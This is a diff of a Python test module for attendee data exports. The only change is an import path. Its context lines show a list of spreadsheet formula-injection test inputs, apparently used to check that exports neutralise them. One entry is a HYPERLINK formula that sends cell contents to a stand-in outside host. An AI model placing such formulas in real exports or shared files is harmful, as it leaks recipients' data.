@@ -26,7 +26,7 @@ from service.registrations import services
 from service.tracking.exports import ATTENDEE_EXPORT_COLUMNS as ATTENDEE_COLUMNS
 from service.tracking.exports import attendee_export_columns as attendee_columns
 from service.tracking.exports import attendee_export_rows as attendee_rows
-from tests.service.helpers import act
+from tests.helpers import act
 
 PAYLOADS = ['=HYPERLINK("http://x.example.org/?c="&A1,"Cliquez")', "+1", "-2+3", "@SUM(A1)"]
 PAYLOADS += ["\t=1", "\r=1", "=1+2", "-", " =1", "  @SUM(A1)", "\x00=1"]
